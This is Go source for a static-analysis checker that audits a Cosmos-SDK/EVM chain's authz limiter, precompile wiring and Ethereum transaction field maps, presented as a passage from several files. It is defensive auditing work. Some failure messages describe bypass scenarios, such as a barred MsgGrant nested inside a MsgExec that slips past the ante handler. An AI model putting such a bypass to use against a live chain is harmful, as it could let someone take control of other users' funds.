				if namedName(deref(stripValue(c.Call.Args[0]).Type())) == "MsgGrant" {
					n++
				}
				return false
			})
		})
		r.Check(n >= 1, "R9", fnID(cd)+"#nested-grant-looked-up-as-a-message", P.Pos(fnPos(cd)), "isDisabledMsg(sdk.MsgTypeURL(<*authz.MsgGrant>)) exists",
			"the MsgGrant arm of the scan looks only at the authorization's type: a barred MsgGrant nested in a MsgExec is accepted — with a grant V→B of MsgGrant in state, MsgExec{B,[MsgGrant{V→C, Generic(MsgSend)}]} passes the ante handler and C holds a MsgSend authorization over V")
	}
	where := P.Pos(fnPos(cd))
	cases := assertedTypes(cd)
	// enumerate sdk.Msg implementers with []*Any fields in the import closure of app
	msgI := P.lookupIface("github.com/cosmos/cosmos-sdk/types", "Msg")
	if msgI == nil {
		r.Fail("sdk.Msg interface not found")
		return
	}
	seenPkg := map[*types.Package]bool{}
	var order []*types.Package
	var walk func(p *types.Package)
	walk = func(p *types.Package) {
		if seenPkg[p] {
			return
		}
		seenPkg[p] = true
		order = append(order, p)
		for _, q := range p.Imports() {
			walk(q)
		}
	}
	if ap := P.PkgBy[haqqMod+"/app"]; ap != nil {
		walk(ap.Types)
	}
	var wrappers []string
	for _, p := range order {
		sc := p.Scope()
		for _, n := range sc.Names() {
			tn, ok := sc.Lookup(n).(*types.TypeName)
			if !ok || tn.IsAlias() {
				continue
			}
			nt, ok := tn.Type().(*types.Named)
			if !ok {
				continue
			}
			st, ok := nt.Underlying().(*types.Struct)
			if !ok || !types.Implements(types.NewPointer(nt), msgI) {
				continue
			}
			for i := 0; i < st.NumFields(); i++ {
				if sl, ok := st.Field(i).Type().(*types.Slice); ok {
					if namedName(sl.Elem()) == "Any" && pathHasSuffix(namedPkgPath(sl.Elem()), "codec/types") {
						wrappers = append(wrappers, p.Path()+"."+n)
					}
				}
			}
		}
	}
	sort.Strings(wrappers)
	r.Floor("R5", "message types with nested messages in the app's import closure", len(wrappers), 2)
	for _, w := range wrappers {
		inst := "wrapper/" + strings.TrimPrefix(w, "github.com/cosmos/cosmos-sdk/")
		if cases[w] {
			r.OK("R5", inst, where, "handled by a case of checkDisabledMsgs")
		} else if why, ok := nestedMsgAllow[w]; ok {
			r.OK("R5", inst, where, "allow-listed: "+why)
		} else {
			r.Bad("R5", inst, where, "message type "+w+" carries nested messages but checkDisabledMsgs has no case for it: a blocked message nested inside it is not scanned")
		}
	}
	r.Check(cases["github.com/cosmos/cosmos-sdk/x/authz.MsgGrant"], "R5", fnID(cd)+"#case-MsgGrant", where, "MsgGrant case present", "checkDisabledMsgs has no MsgGrant case: blocked message types can be granted")
	// recursion
	nRec := 0
	eachCall(cd, func(ci CallInfo) {
		if ci.Static != cd {
			return
		}
		nRec++
		inner := argN(ci.Instr, 1)
		lvl := argN(ci.Instr, 2)
		c, isC := inner.(*ssa.Const)
		okInner := isC && c.Value != nil && c.Value.String() == "true"
		okLvl := backSlice(lvl).Any(func(v ssa.Value) bool {
			b, ok := v.(*ssa.BinOp)
			return ok && b.Op == token.ADD && backSlice(b).HasParam("nestedLvl")
		})
		okMsgs := backSlice(argN(ci.Instr, 0)).HasCall(func(g CallInfo) bool { return g.Name == "GetMessages" })
		r.Check(okInner && okLvl && okMsgs && errHandled(ci.Instr), "R5", fnID(cd)+"#recursion", P.Pos(instrPos(ci.Instr)), "recurses into MsgExec.GetMessages() with isAuthzInnerMsg=true and level+1, error checked",
			fmt.Sprintf("the recursive scan of MsgExec is wrong: inner-flag constant true=%v, level incremented=%v, scans GetMessages()=%v, error checked=%v", okInner, okLvl, okMsgs, errHandled(ci.Instr)))
	})
	r.Floor("R5", "recursive scan calls", nRec, 1)
	// nesting cap: comparison of nestedLvl with a constant whose violating edge is failure, before any range
	capOK := requireGuard(r, "R5", fnID(cd)+"#nesting-cap", cd, func(cond ssa.Value) (bool, bool) {
		b, ok := cond.(*ssa.BinOp)
		if !ok {
			return false, false
		}
		p, okp := b.X.(*ssa.Parameter)
		_, okc := constInt(b.Y)
		if !okp || p.Name() != "nestedLvl" || !okc {
			return false, false
		}
		switch b.Op {
		case token.GEQ, token.GTR:
			return false, true
		case token.LSS, token.LEQ:
			return true, true
		}
		return false, false
	}, nil, func(in ssa.Instruction) bool { return isExitKind(in, ExitSuccess) }, "success only below the nesting cap", "checkDisabledMsgs can succeed without the nesting-level cap (unbounded recursion / deeper nesting accepted)")
	_ = capOK
	// disabled types rejected: each isDisabledMsg call's true edge leads only to failure
	nDis := 0
	eachCall(cd, func(ci CallInfo) {
		if ci.Name != "isDisabledMsg" {
			return
		}
		nDis++
		v := ci.Instr.Value()
		okD := false
		for _, b := range cd.Blocks {
			if ifi, ok := lastIf(b); ok && stripNot(ifi.Cond) == v {
				tb := b.Succs[0]
				if ifi.Cond != v {
					tb = b.Succs[1]
				}
				if w := (PathQuery{Fn: cd, StartBlock: tb, Target: func(in ssa.Instruction) bool {
					return isExitKind(in, ExitSuccess) || (in == tb.Instrs[0] && false)
				}}).Search(); w == nil {
					// also must not continue the loop: no path back to a range loop head without failing
					okD = !(PathQuery{Fn: cd, StartBlock: tb, Target: func(in ssa.Instruction) bool {
						_, isNext := in.(*ssa.Next)
						if isNext {
							return true
						}
						return strings.HasPrefix(in.Block().Comment, "rangeindex.loop") && in == in.Block().Instrs[0]
					}}).found()
				}
			}
		}
		r.Check(okD, "R5", fmt.Sprintf("%s#disabled-rejected-%d", fnID(cd), nDis), P.Pos(instrPos(ci.Instr)), "a disabled type leads to failure", "a message type found disabled does not lead to a failure exit")
	})
	r.Floor("R5", "isDisabledMsg checks", nDis, 2)
	// every ordinary (non-wrapper) message of an inner list is looked up: once the message's type URL is computed
	// (the default case), the next message or a success exit is reachable only through the isDisabledMsg lookup —
	// except over the edge on which isAuthzInnerMsg is false (top-level messages may be of a disabled type)
	{
		isURL := func(in ssa.Instruction) bool {
			c, ok := in.(*ssa.Call)
			return ok && callInfo(c).Name == "MsgTypeURL" && innermostLoop(in.Block()) != nil
		}
		isLookup := isCallMatching(func(ci CallInfo) bool { return ci.Name == "isDisabledMsg" })
		notInner := []Edge{}
		for _, b := range cd.Blocks {
			if ifi, ok := lastIf(b); ok {
				if p, ok := stripNot(ifi.Cond).(*ssa.Parameter); ok && p.Name() == "isAuthzInnerMsg" {
					if ifi.Cond == ssa.Value(p) {
						notInner = append(notInner, Edge{b, 1})
					} else {
						notInner = append(notInner, Edge{b, 0})
					}
				}
			}
		}
		okEvery, nURL := true, 0
		var wit []string
		eachInstr(cd, func(in ssa.Instruction) {
			if !isURL(in) {
				return
			}
			// only the URL computed for the default case (its value reaches an isDisabledMsg call somewhere)
			v := in.(*ssa.Call)
			feeds := false
			eachCall(cd, func(ci CallInfo) {
				if ci.Name == "isDisabledMsg" {
					for _, a := range ci.Instr.Common().Args {
						if backSlice(a).Has(v) {
							feeds = true
						}
					}
				}
			})
			if !feeds {
				return
			}
			nURL++
			hd := innermostLoop(in.Block())
			w := PathQuery{Fn: cd, Start: in, Block: isLookup, Target: func(x ssa.Instruction) bool {
				return isExitKind(x, ExitSuccess) || (hd != nil && x.Block() == hd && x == hd.Instrs[0])
			}, DelEdge: edgeSet(notInner)}.Search()
			if w != nil {
				okEvery = false
				wit = P.witness(w)
			}
		})
		r.Check(okEvery && nURL > 0, "R5", fnID(cd)+"#every-inner-message-looked-up", P.Pos(fnPos(cd)), "each inner message's type is looked up in the disabled list",
			"a message nested in a MsgExec can be passed over without its type being looked up in the disabled list (a skip/continue between computing the type URL and the lookup — e.g. a per-transaction 'already checked' set that a top-level occurrence fills): a barred type executes through a nested grant", wit...)
	}
	// AnteHandle: scan before next
	if ah, ok := P.FnOK("(app/ante/cosmos.AuthzLimiterDecorator).AnteHandle"); ok {
		isScan := isCallMatching(func(ci CallInfo) bool {
			if ci.Static != cd || !errHandled(ci.Instr) {
				return false
			}
			c, isC := argN(ci.Instr, 1).(*ssa.Const)
			return backSlice(argN(ci.Instr, 0)).HasCall(func(g CallInfo) bool { return g.Name == "GetMsgs" }) && isC && c.Value.String() == "false"
		})
		w := Precedes(ah, isScan, nextCallPred(ah), nil)
		r.Check(w == nil, "R5", fnID(ah)+"#scan-before-next", P.Pos(fnPos(ah)), "checkDisabledMsgs(tx.GetMsgs(), false, …) precedes next", "the authz limiter reaches the next decorator without scanning the transaction's messages", P.witness(w)...)
	}
}

func (q PathQuery) found() bool { return q.Search() != nil }

// c06Dispatchers lists the constructors in package app that receive the message service router and dispatch
// message trees outside transactions; with r != nil it also checks the receivers against the table.
func c06Dispatchers(P *Prog, r *Run) []string {
	table := map[string]string{
		"NewKeeper@x/authz/keeper":        "bound",      // runs inside a transaction: the limiter has scanned the tree
		"NewConfigurator@types/module":    "bound",      // service registration
		"NewKeeper@x/gov/keeper":          "dispatcher", // proposal messages, signer = gov module account
		"NewKeeper@host/keeper":           "dispatcher", // ICS-27 packets, signer = interchain account
		"NewMsgServerImpl@x/authz/keeper": "bound",
	}
	var out []string
	seen := map[string]bool{}
	for _, fn := range P.Funcs {
		if fnPkgPath(fn) != "app" && !strings.HasSuffix(fnPkgPath(fn), "/app") {
			continue
		}
		if !isHaqqPath(fnPkgPath(fn)) || isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if ci.Name == "MsgServiceRouter" {
				return
			}
			gets := false
			for _, a := range ci.Instr.Common().Args {
				if c, ok := stripValue(a).(*ssa.Call); ok && callInfo(c).Name == "MsgServiceRouter" {
					gets = true
				}
			}
			if !gets {
				return
			}
			kind := ""
			for k, v := range table {
				parts := strings.SplitN(k, "@", 2)
				if ci.Name == parts[0] && strings.HasSuffix(ci.PkgPath, parts[1]) {
					kind = v
				}
			}
			id := ci.Name + "@" + ci.PkgPath
			if kind == "" {
				if r != nil {
					r.Bad("R8", "app#router-receiver:"+id, P.Pos(instrPos(ci.Instr)), id+" receives the message service router but is not in the table of C06 R8: whatever it dispatches runs without the ante handler's route rules — confirm what signer it requires and table it")
				}
				return
			}
			if r != nil && !seen[id] {
				r.OK("R8", "app#router-receiver:"+id, P.Pos(instrPos(ci.Instr)), id+" is tabled as "+kind)
			}
			if kind == "dispatcher" && !seen[id] {
				out = append(out, id)
			}
			seen[id] = true
		})
	}
	sort.Strings(out)
	return out
}

// c06LimiterTypes resolves the message types a limiter is constructed with: the pointee type names of the
// MsgTypeURL(&T{}) calls that flow into NewAuthzLimiterDecorator's variadic argument, looking through one
// Haqq helper that builds the list. A type whose MsgTypeURL call does not dominate the constructor call is
// listed only conditionally.
func c06LimiterTypes(ctor ssa.CallInstruction) (always, sometimes map[string]bool, resolved bool) {
	always, sometimes = map[string]bool{}, map[string]bool{}
	collect := func(call ssa.CallInstruction) {
		backSlice(call.Common().Args...).Any(func(v ssa.Value) bool {
			cc, ok := v.(*ssa.Call)
			if !ok || callInfo(cc).Name != "MsgTypeURL" || len(cc.Call.Args) != 1 {
				return false
			}
			t := namedName(deref(stripValue(cc.Call.Args[0]).Type()))
			if t == "" {
				return false
			}
			if cc.Parent() == call.Parent() && dominates(cc.Block(), call.Block()) {
				always[t] = true
			} else {
				sometimes[t] = true
			}
			return false
		})
	}
	ci := callInfo(ctor)
	if ci.Name == "NewAuthzLimiterDecorator" {
		collect(ctor)
		resolved = true
	} else if ci.Static != nil && isHaqqPath(fnPkgPath(ci.Static)) {
		eachCall(ci.Static, func(g CallInfo) {
			if g.Name == "NewAuthzLimiterDecorator" {
				collect(g.Instr)
				resolved = true
			}
		})
	}
	for t := range always {
		delete(sometimes, t)
	}
	return
}
