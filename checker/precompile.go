package main

import (
	"encoding/json"
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ---------- model of the wired precompiles, extracted from the program ----------

type pcHandler struct {
	Method  string // ABI method name (the case constant)
	Fn      *ssa.Function
	Call    ssa.CallInstruction // dispatch site in Run
	IsTx    bool
	CaseBlk *ssa.BasicBlock
}

type pcModel struct {
	Pkg       string // import path
	Rel       string // e.g. precompiles/staking
	Type      *types.Named
	Run       *ssa.Function
	IsTxFn    *ssa.Function
	TxNames   []string
	Handlers  []*pcHandler
	ByMethod  map[string]*pcHandler
	ABIFuncs  []string
	ABIFile   string
	Stateful  bool // Run uses RunSetup / the common Precompile
	CaseEdges []Edge
	AddrConst string
}

var pcMemo = map[*Prog][]*pcModel{}

// wiredPrecompiles resolves the concrete types stored into the map built by AvailablePrecompiles.
func wiredPrecompiles(r *Run) []*pcModel {
	P := r.P
	if m, ok := pcMemo[P]; ok {
		return m
	}
	av, ok := P.FnOK("x/evm/keeper.AvailablePrecompiles")
	if !ok {
		r.Bad("MODEL", "anchor/x/evm/keeper.AvailablePrecompiles", "", "the static precompile registry constructor does not exist")
		return nil
	}
	seen := map[string]bool{}
	var out []*pcModel
	eachInstr(av, func(in ssa.Instruction) {
		mu, ok := in.(*ssa.MapUpdate)
		if !ok {
			return
		}
		v := stripValue(mu.Value)
		t := v.Type()
		if p, ok := t.(*types.Pointer); ok {
			t = p.Elem()
		}
		nt, ok := t.(*types.Named)
		if !ok || nt.Obj().Pkg() == nil || !isHaqqPath(nt.Obj().Pkg().Path()) {
			return
		}
		pk := nt.Obj().Pkg().Path()
		if seen[pk] {
			return
		}
		seen[pk] = true
		m := &pcModel{Pkg: pk, Rel: strings.TrimPrefix(pk, haqqMod+"/"), Type: nt, ByMethod: map[string]*pcHandler{}}
		out = append(out, m)
	})
	sort.Slice(out, func(i, j int) bool { return out[i].Rel < out[j].Rel })
	for _, m := range out {
		buildPcModel(r, m)
	}
	pcMemo[P] = out
	return out
}

func buildPcModel(r *Run, m *pcModel) {
	P := r.P
	tname := m.Type.Obj().Name()
	for _, pre := range []string{"(" + m.Rel + "." + tname + ").", "(*" + m.Rel + "." + tname + ")."} {
		if fn, ok := P.FnOK(pre + "Run"); ok && fn.Synthetic == "" {
			m.Run = fn
		}
		if fn, ok := P.FnOK(pre + "IsTransaction"); ok && fn.Synthetic == "" {
			m.IsTxFn = fn
		}
	}
	if m.Run == nil {
		r.Bad("MODEL", "anchor/"+m.Rel+".Run", "", "wired precompile has no Run method with a body")
		return
	}
	// stateful: Run calls RunSetup of precompiles/common
	eachCall(m.Run, func(ci CallInfo) {
		if ci.Name == "RunSetup" && pathHasSuffix(ci.PkgPath, "precompiles/common") {
			m.Stateful = true
		}
	})
	if !m.Stateful {
		return
	}
	// IsTransaction case set
	if m.IsTxFn != nil {
		for _, p := range m.IsTxFn.Params {
			if b, ok := p.Type().Underlying().(*types.Basic); ok && b.Kind() == types.String {
				names, _ := stringCasesOnValue(m.IsTxFn, p)
				m.TxNames = names
			}
		}
	}
	isTx := map[string]bool{}
	for _, n := range m.TxNames {
		isTx[n] = true
	}
	// Run switch: comparisons of (abi.Method).Name with constants
	eq, _ := condEdgesInfo(m.Run, func(x, y ssa.Value) (string, bool) {
		s, ok := constString(x)
		if !ok {
			return "", false
		}
		if !backSlice(y).HasField("Method", "Name") {
			return "", false
		}
		return s, true
	})
	for _, e := range eq {
		m.CaseEdges = append(m.CaseEdges, e.E)
		tb := e.E.From.Succs[e.E.Succ]
		h := &pcHandler{Method: e.Tag, IsTx: isTx[e.Tag], CaseBlk: tb}
		for _, in := range tb.Instrs {
			c, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			ci := callInfo(c)
			if ci.Static != nil && ci.Static.Signature.Recv() != nil && namedName(ci.Static.Signature.Recv().Type()) == tname && fnPkgPath(ci.Static) == m.Pkg {
				h.Fn, h.Call = ci.Static, c
				break
			}
		}
		m.Handlers = append(m.Handlers, h)
		m.ByMethod[h.Method] = h
	}
	sort.Slice(m.Handlers, func(i, j int) bool { return m.Handlers[i].Method < m.Handlers[j].Method })
	// ABI file named by go:embed in the package
	pk := P.PkgBy[m.Pkg]
	if pk != nil {
		for _, f := range pk.Syntax {
			for _, cg := range f.Comments {
				for _, c := range cg.List {
					if strings.HasPrefix(c.Text, "//go:embed ") {
						name := strings.TrimSpace(strings.TrimPrefix(c.Text, "//go:embed "))
						dir := filepath.Dir(P.Fset.Position(f.Pos()).Filename)
						m.ABIFile = filepath.Join(dir, name)
					}
				}
			}
		}
	}
	if m.ABIFile != "" {
		b, err := os.ReadFile(m.ABIFile)
		if err != nil {
			r.Bad("MODEL", "abi/"+m.Rel, "", "embedded ABI file unreadable: "+err.Error())
		} else {
			var raw any
			if err := json.Unmarshal(b, &raw); err != nil {
				r.Bad("MODEL", "abi/"+m.Rel, "", "embedded ABI file is not JSON: "+err.Error())
			} else {
				var list []any
				switch x := raw.(type) {
				case []any:
					list = x
				case map[string]any:
					if l, ok := x["abi"].([]any); ok {
						list = l
					}
				}
				for _, e := range list {
					if em, ok := e.(map[string]any); ok && em["type"] == "function" {
						if n, ok := em["name"].(string); ok {
							m.ABIFuncs = append(m.ABIFuncs, n)
						}
					}
				}
				sort.Strings(m.ABIFuncs)
			}
		}
	}
}

type taggedEdge struct {
	E   Edge
	Tag string
}

// condEdgesInfo is condEdges with a tag extracted by the matcher (e.g. the constant compared with).
func condEdgesInfo(fn *ssa.Function, match func(x, y ssa.Value) (string, bool)) (eq, ne []taggedEdge) {
	for _, b := range fn.Blocks {
		ifi, ok := lastIf(b)
		if !ok {
			continue
		}
		cond := ifi.Cond
		neg := false
		for {
			if u, ok := cond.(*ssa.UnOp); ok && u.Op == token.NOT {
				neg = !neg
				cond = u.X
				continue
			}
			break
		}
		isEq, x, y, ok := asEquality(cond)
		if !ok {
			continue
		}
		tag, ok := match(x, y)
		if !ok {
			tag, ok = match(y, x)
		}
		if !ok {
			continue
		}
		if neg {
			isEq = !isEq
		}
		if isEq {
			eq = append(eq, taggedEdge{Edge{b, 0}, tag})
			ne = append(ne, taggedEdge{Edge{b, 1}, tag})
		} else {
			eq = append(eq, taggedEdge{Edge{b, 1}, tag})
			ne = append(ne, taggedEdge{Edge{b, 0}, tag})
		}
	}
	return
}

func stringCasesOnValue(fn *ssa.Function, p *ssa.Parameter) (vals []string, eq []Edge) {
	seen := map[string]bool{}
	e, _ := condEdges(fn, func(x, y ssa.Value) bool {
		if x != ssa.Value(p) {
			return false
		}
		s, ok := constString(y)
		if ok && !seen[s] {
			seen[s] = true
			vals = append(vals, s)
		}
		return ok
	})
	sort.Strings(vals)
	return vals, e
}

// ---------- handler vocabulary ----------

type hParams struct {
	Origin   *ssa.Parameter // common.Address
	Contract *ssa.Parameter // *vm.Contract
	Args     *ssa.Parameter // []interface{}
	StateDB  *ssa.Parameter // vm.StateDB
}

func handlerParams(fn *ssa.Function) hParams {
	var hp hParams
	for _, p := range fn.Params {
		t := p.Type()
		switch {
		case namedName(t) == "Address" && pathHasSuffix(namedPkgPath(t), "go-ethereum/common"):
			if hp.Origin == nil {
				hp.Origin = p
			}
		case namedName(t) == "Contract" && pathHasSuffix(namedPkgPath(t), "core/vm"):
			hp.Contract = p
		case namedName(t) == "StateDB" && pathHasSuffix(namedPkgPath(t), "core/vm"):
			hp.StateDB = p
		default:
			if sl, ok := t.Underlying().(*types.Slice); ok {
				if _, ok := sl.Elem().Underlying().(*types.Interface); ok {
					hp.Args = p
				}
			}
		}
	}
	return hp
}

// isCallerAddrLoad: v is a load of <contract>.CallerAddress.
func isCallerAddrLoad(v ssa.Value) bool {
	u, ok := stripValue(v).(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		return false
	}
	sn, f, ok := fieldOfAddr(u.X)
	return ok && sn == "Contract" && f == "CallerAddress"
}

// callerEqOriginEdges: edges on which contract.CallerAddress == origin holds in fn.
func callerEqOriginEdges(fn *ssa.Function) (eq, ne []Edge) {
	hp := handlerParams(fn)
	return condEdges(fn, func(x, y ssa.Value) bool {
		if !isCallerAddrLoad(x) {
			return false
		}
		return hp.Origin != nil && stripValue(y) == ssa.Value(hp.Origin)
	})
}

var readOnlyKeeperMethods = map[string]bool{
	"BondDenom": true, "MaxValidators": true, "GetDelegatorValidators": true, "HasChannel": true, "GetAuthorization": true, "GetDelegation": true,
	"GetValidator": true, "Validator": true, "GetParams": true, "Logger": true, "GetAllValidators": true, "IterateValidators": true,
	"GetDelegatorWithdrawAddr": true, "GetChannel": true, "GetDenomTrace": true, "GetAuthorizations": true, "GetBalance": true,
	"GetAllBalances": true, "GetSupply": true, "IterateAccountBalances": true, "IterateTotalSupply": true, "GetTokenPairID": true, "GetTokenPair": true,
	"GetUnbondingDelegation": true, "GetRedelegation": true, "GetRedelegations": true, "GetValidators": true, "GetBondedValidatorsByPower": true,
	"GetCodec": true, "DenomHash": true, "DenomTrace": true, "DenomTraces": true, "DenomPathFromHash": true, "IsERC20Enabled": true, "GetCoinAddress": true, "GetERC20Map": true, "GetDenomMap": true, "DenomHashPath": true,
}

// isCosmosEffect: a call that changes Cosmos-side state — any MsgServer method, or a keeper method
// that is not in the read-only list.
func isCosmosEffect(ci CallInfo) bool {
	if ci.Obj == nil {
		return false
	}
	if ci.Invoke && ci.Recv == "MsgServer" {
		return true
	}
	if ci.Recv == "" {
		return false
	}
	if !(pathHasSuffix(ci.PkgPath, "keeper") || strings.HasSuffix(ci.PkgPath, "/keeper")) {
		return false
	}
	if readOnlyKeeperMethods[ci.Name] || strings.HasPrefix(ci.Name, "NewMsgServer") {
		return false
	}
	if ci.Recv == "Querier" || ci.Recv == "queryServer" || ci.Recv == "QueryServer" {
		return false // gRPC query servers of the modules: read-only by construction
	}
	if strings.HasPrefix(ci.Name, "Get") || strings.HasPrefix(ci.Name, "Has") || strings.HasPrefix(ci.Name, "Iterate") || strings.HasPrefix(ci.Name, "Is") {
		return false
	}
	return true
}

// bankMovingEffects: frozen effects table (confirmed by reading cosmos-sdk v0.47.12-evmos.2 / ibc-go v7.4.0):
// Cosmos-side calls that can change an account's bank balance (directly, or through the staking
// hooks that auto-withdraw rewards).
var bankMovingEffects = map[string]string{
	"MsgServer.CreateValidator":           "self-delegation moves coins to the bonded pool",
	"MsgServer.Delegate":                  "coins move to the bonded pool; BeforeDelegationSharesModified withdraws pending rewards to the delegator",
	"MsgServer.Undelegate":                "BeforeDelegationSharesModified withdraws pending rewards to the delegator",
	"MsgServer.BeginRedelegate":           "hooks withdraw pending rewards to the delegator",
	"MsgServer.CancelUnbondingDelegation": "re-delegation hooks withdraw pending rewards to the delegator",
	"MsgServer.WithdrawDelegatorReward":   "rewards are paid to the withdraw address",
	"MsgServer.WithdrawValidatorCommission": "commission is paid to the withdraw address",
	"Keeper.WithdrawDelegationRewards":    "rewards are paid to the withdraw address",
	"Keeper.Transfer":                     "sender's coins are escrowed/burned",
	"MsgServer.Transfer":                  "sender's coins are escrowed/burned",
}

// nonMovingEffects: Cosmos-side effects of precompile handlers that cannot change any bank balance
// (confirmed by reading the same dependency versions); filled from the effects found on the reference tree.
var nonMovingEffects = map[string]string{
	"Keeper.SaveGrant":             "authz keeper: writes the grant and its queue entry in the authz store only",
	"Keeper.DeleteGrant":           "authz keeper: removes the grant and its queue entry only",
	"MsgServer.SetWithdrawAddress": "distribution: stores the delegator's withdraw address only (no coins move until a withdrawal)",
}

func effectName(ci CallInfo) string {
	if ci.Invoke {
		return ci.Recv + "." + ci.Name
	}
	return ci.Recv + "." + ci.Name
}

func isBankMoving(ci CallInfo) (string, bool) {
	if !isCosmosEffect(ci) {
		return "", false
	}
	why, ok := bankMovingEffects[effectName(ci)]
	return why, ok
}

// isStateDBBalanceWrite: AddBalance/SubBalance/SetBalance on the EVM StateDB.
func isStateDBBalanceWrite(ci CallInfo) bool {
	if ci.Name != "AddBalance" && ci.Name != "SubBalance" && ci.Name != "SetBalance" {
		return false
	}
	return ci.Recv == "StateDB"
}

// effectCallsIn lists Cosmos effect calls made by fn directly or through same-package helpers (depth<=3).
type effectSite struct {
	Call  ssa.CallInstruction // call site inside the handler
	Info  CallInfo            // the effect callee (may be nested in a helper)
	Via   []string
	Direct bool
}

func effectSites(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) []effectSite {
	var out []effectSite
	if fn == nil || fn.Blocks == nil || seen[fn] {
		return nil
	}
	seen[fn] = true
	for _, f := range withAnon(fn) {
		eachCall(f, func(ci CallInfo) {
			if isCosmosEffect(ci) {
				out = append(out, effectSite{Call: ci.Instr, Info: ci, Direct: f == fn})
				return
			}
			if depth > 0 && ci.Static != nil && strings.Contains(fnPkgPath(ci.Static), "/precompiles/") && ci.Static.Blocks != nil {
				for _, s := range effectSites(ci.Static, depth-1, seen) {
					out = append(out, effectSite{Call: ci.Instr, Info: s.Info, Via: append([]string{fnID(ci.Static)}, s.Via...), Direct: false})
				}
			}
		})
	}
	return out
}

// ---------- root tracing (FLOW through helper parameters) ----------

// valueRoots traces v backwards to its sources across static callers inside the precompile packages.
// Root descriptors: "evm.Origin", "contract.CallerAddress", "args", "const", "param:<fn>.<name>", "field:<T>.<f>", "call:<callee>".
func valueRoots(P *Prog, fn *ssa.Function, v ssa.Value, depth int, callers map[*ssa.Function][]ssa.CallInstruction) map[string]bool {
	roots := map[string]bool{}
	var rec func(fn *ssa.Function, v ssa.Value, depth int)
	rec = func(fn *ssa.Function, v ssa.Value, depth int) {
		sl := backSlice(v)
		for x := range sl.Vals {
			switch y := x.(type) {
			case *ssa.Parameter:
				if fn.Signature.Recv() != nil && len(fn.Params) > 0 && fn.Params[0] == y {
					continue // receiver
				}
				if namedName(y.Type()) == "Context" {
					continue
				}
				if tn := namedName(y.Type()); (tn == "EVM" || tn == "Contract") && pathHasSuffix(namedPkgPath(y.Type()), "core/vm") {
					continue // containers: their fields are the roots (see FieldAddr below)
				}
				if sl2, ok := y.Type().Underlying().(*types.Slice); ok {
					if _, ok := sl2.Elem().Underlying().(*types.Interface); ok {
						roots["args"] = true
						continue
					}
				}
				cs := callers[fn]
				if len(cs) == 0 || depth <= 0 {
					roots["param:"+fnID(fn)+"."+y.Name()] = true
					continue
				}
				idx := -1
				for i, p := range fn.Params {
					if p == y {
						idx = i
					}
				}
				for _, c := range cs {
					args := c.Common().Args
					if idx >= 0 && idx < len(args) {
						rec(c.Parent(), args[idx], depth-1)
					}
				}
			case *ssa.FieldAddr:
				sn, f, _ := fieldOfAddr(y)
				switch {
				case (sn == "EVM" || sn == "TxContext") && f == "Origin":
					roots["evm.Origin"] = true
				case sn == "EVM" && f == "TxContext":
				case sn == "Contract" && f == "CallerAddress":
					roots["contract.CallerAddress"] = true
				case sn == "EVM" || sn == "Contract" || sn == "TxContext":
					roots["field:"+sn+"."+f] = true
				}
			}
		}
	}
	rec(fn, v, depth)
	return roots
}

// staticCallersIn builds callee → call sites for functions of the given packages.
func staticCallersIn(P *Prog, pkgFilter func(string) bool) map[*ssa.Function][]ssa.CallInstruction {
	m := map[*ssa.Function][]ssa.CallInstruction{}
	for _, fn := range P.Funcs {
		if !pkgFilter(fnPkgPath(fn)) || isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if ci.Static != nil {
				m[ci.Static] = append(m[ci.Static], ci.Instr)
			}
		})
	}
	return m
}

func sortedKeys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

var _ = ast.Inspect
var _ = fmt.Sprintf
