package main

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C18",
		Run: runC18,
		Explanation: "Static analysis of the Ethereum-transaction ↔ proto-message field maps: for legacy, access-list and dynamic-fee transactions (R1) the constructor plus SetSignatureValues assign every proto field from the matching go-ethereum accessor, every getter returns the field it is named after, AsEthereumData sets every field of the go-ethereum struct from the matching getter (signature values in V,R,S order), and Copy copies every field from the same field; " +
			"(R2) NewTxDataFromTx maps each transaction type constant to its constructor, TxType() returns the matching constant and exactly these three types implement TxData; (R3) MsgEthereumTx.Hash is only ever set from the transaction's Hash().Hex() and ValidateBasic rejects a message whose recorded hash differs; (R4) Fee/Cost/EffectiveFee depend on the fields the Ethereum definitions use. Equality of hash, sender and fields after an actual encode→decode round trip is run-time behaviour and is not decided.",
		Assumptions: []string{"go-ethereum's Transaction accessors, NewTx and Hash", "proto/amino codec round-trips the message bytes"},
		Declined:    []string{"hash / sender / field equality under an actual encode→decode round trip"},
	})
}

type txTypeSpec struct {
	Proto, Geth, Ctor, TypeConst string
	// proto field -> geth accessor used by the constructor
	FromGeth map[string]string
	// proto field -> getter
	Getter map[string]string
	// geth field -> getter (or "sig:N")
	ToGeth map[string]string
}

var txSpecs = []txTypeSpec{
	{"LegacyTx", "LegacyTx", "NewLegacyTx", "LegacyTxType",
		map[string]string{"Nonce": "Nonce", "GasPrice": "GasPrice", "GasLimit": "Gas", "To": "To", "Amount": "Value", "Data": "Data", "V": "sig:0", "R": "sig:1", "S": "sig:2"},
		map[string]string{"Nonce": "GetNonce", "GasPrice": "GetGasPrice", "GasLimit": "GetGas", "To": "GetTo", "Amount": "GetValue", "Data": "GetData"},
		map[string]string{"Nonce": "GetNonce", "GasPrice": "GetGasPrice", "Gas": "GetGas", "To": "GetTo", "Value": "GetValue", "Data": "GetData", "V": "sig:0", "R": "sig:1", "S": "sig:2"}},
	{"AccessListTx", "AccessListTx", "newAccessListTx", "AccessListTxType",
		map[string]string{"ChainID": "ChainId", "Nonce": "Nonce", "GasPrice": "GasPrice", "GasLimit": "Gas", "To": "To", "Amount": "Value", "Data": "Data", "Accesses": "AccessList", "V": "sig:0", "R": "sig:1", "S": "sig:2"},
		map[string]string{"ChainID": "GetChainID", "Nonce": "GetNonce", "GasPrice": "GetGasPrice", "GasLimit": "GetGas", "To": "GetTo", "Amount": "GetValue", "Data": "GetData", "Accesses": "GetAccessList"},
